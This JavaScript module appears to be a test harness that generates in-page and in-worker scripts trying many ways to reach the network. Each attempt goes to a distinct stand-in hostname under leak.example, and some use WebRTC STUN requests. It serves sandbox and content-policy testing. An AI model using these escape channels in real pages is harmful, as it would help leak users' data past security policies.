// Ways in which a script inside a page can reach the network. Each goes to a name of its own, so that even a question
// about the name tells which one got out. The text of the attempts in ways-out/ runs in a page or in a worker, never
// from a driver, which a policy does not bind.
import everywhere from './ways-out/everywhere.mjs';
import worker from './ways-out/worker.mjs';
import asking from './ways-out/asking.mjs';
import windows from './ways-out/windows.mjs';
import links from './ways-out/links.mjs';
import away from './ways-out/away.mjs';
import undoing from './ways-out/undoing.mjs';
import home from './ways-out/home.mjs';

/** What stands beside the attempts: where to go, and what they are made with. */
const TOOLS = `
  const name = (way) => prefix + way + '.leak.example';
  const http = (way) => 'http://' + name(way) + '/?patient';
  const https = (way) => 'https://' + name(way) + '/?patient';
  const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const put = (element) => { (document.body ?? document.documentElement).append(element); return element; };
  const make = (kind, properties = {}) => Object.assign(document.createElement(kind), properties);
  const svg = (kind) => document.createElementNS('http://www.w3.org/2000/svg', kind);
  const holder = () => put(make('div'));
  const press = (link, init) =>
    link.dispatchEvent(new MouseEvent('click', { view: globalThis, bubbles: true, ...init }));
  const stun = (Peer, way) => {
    const peer = new Peer({ iceServers: [{ urls: 'stun:' + name(way) + ':3478' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
`;

/** A script of attempts, one at a time, each with a moment to get away before the next. */
function script(prefix, groups, after = '') {
  const steps = groups.map(([ways, moment]) => {
    const list = Object.entries(ways).map(([way, attempt]) => `${JSON.stringify(way)}: ${attempt}`);
    return `await tryAll({ ${list.join(',\n')} }, ${moment});`;
  });
  return `(async () => {
    const prefix = '${prefix}';
    ${TOOLS}
    const tryAll = async (ways, moment) => {
      const names = Object.keys(ways);
      // Without an iterator, which an attempt may have replaced.
      for (let next = 0; next < names.length; next += 1) {
        const way = names[next];
        try { await ways[way](); console.log('ways-out ' + prefix + way + ' ran'); }
        catch (fault) { console.log('ways-out ' + prefix + way + ' threw ' + fault); }
        await pause(moment);
      }
    };
    ${steps.join('\n')}
    console.log('ways-out ' + prefix + 'done');
    ${after}
  })();`;
}

const QUICK = 30;
const SLOW = 400;

export const inWorker = () => {
  const groups = [everywhere, worker].map((ways) => [ways, QUICK]);
  return `setTimeout(() => { ${script('w-', groups)} }, 0);`;
};

/** What begins in a page once `ready` is true, an expression. A page that was loaded again does not begin again. */
export const inPage = (ready, fromServer) => {
  const groups = [everywhere, asking, windows, links].map((ways) => [ways, QUICK]);
  for (const ways of [away, undoing, ...(fromServer ? [home] : [])]) groups.push([ways, SLOW]);
  return `
  if (performance.getEntriesByType('navigation')[0]?.type !== 'reload') {
    const wait = () => (${ready} ? begin() : setTimeout(wait, 50));
    const begin = () => { ${script('p-', groups, fromServer ? 'location.reload()' : '')} };
    setTimeout(wait, 0);
  }`;
};

const labels = (prefix, groups) => groups.flatMap((ways) => Object.keys(ways).map((way) => prefix + way));

/** Every way by its label. */
export const WAYS = [
  ...labels('p-', [everywhere, asking, windows, links, away, undoing]),
  ...labels('w-', [everywhere, worker]),
];
/** Those that lead to the page's own server. */
export const HOME_WAYS = labels('p-', [home]);
